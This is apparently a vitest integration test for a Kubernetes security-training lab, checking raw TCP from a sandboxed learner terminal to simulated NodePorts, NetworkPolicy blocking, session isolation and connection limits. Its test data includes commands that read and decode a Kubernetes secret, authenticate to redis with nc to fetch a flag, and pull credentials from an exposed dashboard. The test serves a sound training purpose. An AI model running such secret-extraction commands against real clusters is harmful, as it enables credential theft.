/**
 * Raw TCP from the learner's terminal to the session's nodes (#11): `nc NODE PORT` and bash's
 * `/dev/tcp` reach a NodePort as a TCP stream through the simulated network, whatever speaks
 * there (a redis store, HTTP, TLS), with Services and NetworkPolicy applied. The real runner
 * (`paranoid serve --provider sim`), the real bubblewrap sandbox, its relay and its own network.
 */
import type { LabServer } from '@paranoid/server/lab-server.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTerminal, startLab, type TerminalClient, waitForSetup } from '../support/sandbox-terminal.ts';

let lab: LabServer;
let base: string;
let shell: TerminalClient;
let neighbour: TerminalClient;

const NODE = 'NODE=$(kubectl get nodes -o jsonpath=\'{.items[0].status.addresses[?(@.type=="InternalIP")].address}\')';
/** The ledger's password, as the scenario's attack finds it, and a redis session sent with nc. */
const STEAL =
  'PW=$(kubectl -n payments get secret ledger-auth -o jsonpath=\'{.data.password}\' | base64 -d); printf \'AUTH %s\\r\\nGET flag\\r\\nQUIT\\r\\n\' "$PW" | timeout 10 nc "$NODE" 31379; echo " nc=$?"';

beforeAll(async () => {
  ({ lab, base } = await startLab());
  if (lab.terminals.kind !== 'sandbox')
    throw new Error(
      `the sandbox is required here, and terminals are ${lab.terminals.kind}: ${'reason' in lab.terminals ? lab.terminals.reason : ''}`,
    );
  shell = await openTerminal(base, 'secrets-in-plain-sight');
  neighbour = await openTerminal(base, 'exposed-dashboard');
  await waitForSetup(lab, shell);
  await shell.run(NODE);
}, 180_000);

afterAll(async () => {
  shell?.close();
  neighbour?.close();
  await lab?.close();
});

describe("raw TCP to the session's nodes", () => {
  it('puts the node addresses on the sandbox loopback, where the learner cannot change them', async () => {
    const out = await shell.run(
      'echo "node=$NODE"; ip -4 addr show lo 2>&1 | grep -o "inet [0-9.]*" | tr "\\n" " "; echo; ip addr add 10.9.9.9/32 dev lo; echo " ip=$?"',
    );
    const node = /node=(\d+\.\d+\.\d+\.\d+)/.exec(out)?.[1];
    expect(node).toBeTruthy();
    expect(out).toContain(`inet ${node}`);
    expect(out).toMatch(/Operation not permitted/);
    expect(out).not.toContain('ip=0');
  });

  it("talks redis with the ledger through a learner's NodePort, and not once a NetworkPolicy closes it", async () => {
    // Nothing listens on 31379 yet: the connection is refused by the relay's namespace.
    const closed = await shell.run('timeout 10 bash -c "exec 3<>/dev/tcp/$NODE/31379" 2>&1; echo " tcp=$?"');
    expect(closed).toMatch(/Connection refused/);

    // The learner's mistake: the ledger published on every node.
    await shell.run(
      `kubectl -n payments expose deployment ledger --name=ledger-public --type=NodePort --port=6379 --overrides='{"apiVersion":"v1","spec":{"ports":[{"port":6379,"targetPort":6379,"nodePort":31379}]}}'`,
    );
    await shell.run('sleep 2.5');
    const before = await shell.run(STEAL);
    expect(before).toContain('+OK');
    expect(before).toContain('PARANOID{a-password-in-a-pod-spec-is-a-password-for-everyone}');
    expect(before).toContain('nc=0');

    // Multi-bulk RESP (what redis-cli sends) over bash's /dev/tcp, on one connection, in order.
    const resp = await shell.run(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: bash's ${#PW} (the password's length), typed into the shell
      'exec 3<>/dev/tcp/$NODE/31379; printf \'*2\\r\\n$4\\r\\nAUTH\\r\\n$%s\\r\\n%s\\r\\n*1\\r\\n$6\\r\\nDBSIZE\\r\\n*1\\r\\n$4\\r\\nQUIT\\r\\n\' "${#PW}" "$PW" >&3; timeout 10 cat <&3; exec 3<&-',
    );
    expect(resp).toMatch(/\+OK\s+:3\s+\+OK/);

    // The fix: only the checkout API may reach the ledger.
    await shell.run(
      `kubectl -n payments apply -f - <<'EOF'
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: ledger-ingress }
spec:
  podSelector: { matchLabels: { app: ledger } }
  policyTypes: [Ingress]
  ingress: [{ from: [{ podSelector: { matchLabels: { app: checkout } } }] }]
EOF`,
    );
    const after = await shell.run(STEAL, 40_000);
    expect(after).not.toContain('PARANOID{');
    expect(after).not.toContain('+OK');
  }, 120_000);

  it('speaks HTTP and TLS on a NodePort without the proxy', async () => {
    // exposed-dashboard's NodePort 31337 serves HTTPS: curl with the proxy switched off.
    await neighbour.run(NODE);
    const out = await neighbour.run(
      'curl -sk --noproxy "*" --max-time 5 "https://$NODE:31337/api/v1/secret/telemetry"; echo " curl=$?"',
    );
    expect(out).toContain('"name": "s3-creds"');
    expect(out).toContain('curl=0');
    const plain = await neighbour.run('curl -s --noproxy "*" --max-time 5 "http://$NODE:31337/"; echo " curl=$?"');
    expect(plain).toContain('Client sent an HTTP request to an HTTPS server.');
  });

  it("cannot reach another session's nodes: a node address leads into this session's cluster only", async () => {
    const mine = /node=(\d+\.\d+\.\d+\.\d+)/.exec(await shell.run('echo "node=$NODE"'))?.[1];
    const theirs = /node=(\d+\.\d+\.\d+\.\d+)/.exec(await neighbour.run('echo "node=$NODE"'))?.[1];
    expect(mine).toBeTruthy();
    expect(theirs).toBeTruthy();
    // The neighbour's dashboard NodePort 31337, at the neighbour's node address: from this
    // terminal it lands in this session's cluster, where nothing serves it.
    const probe = await shell.run(`timeout 10 bash -c "exec 3<>/dev/tcp/${theirs}/31337" 2>&1; echo " tcp=$?"`);
    expect(probe).not.toContain('tcp=0');
    const proxied = await shell.run(
      `curl -sk --max-time 5 "https://${theirs}:31337/api/v1/secret/telemetry"; echo " curl=$?"`,
    );
    expect(proxied).not.toContain('s3-creds');
  });

  it('bounds the connections one terminal holds, and says so in the terminal', async () => {
    // 16 at once are allowed; the 17th is closed with a line in the terminal.
    const out = await neighbour.run(
      'for fd in $(seq 20 36); do eval "exec $fd<>/dev/tcp/$NODE/31337"; done; sleep 1; for fd in $(seq 20 36); do eval "exec $fd<&-"; done; echo done',
    );
    expect(out).toContain('done');
    await neighbour.waitFor(/already holds 16 connections to the cluster's nodes/, 10_000);
    // Closed ones free their place.
    const after = await neighbour.run(
      'curl -sk --noproxy "*" --max-time 5 "https://$NODE:31337/api/v1/secret/telemetry"; echo " curl=$?"',
    );
    expect(after).toContain('curl=0');
  });

  it('keeps the HTTP proxy path working', async () => {
    const out = await neighbour.run(
      'curl -sk --max-time 5 "https://$NODE:31337/api/v1/secret/telemetry"; echo " curl=$?"',
    );
    expect(out).toContain('"name": "s3-creds"');
  });
});
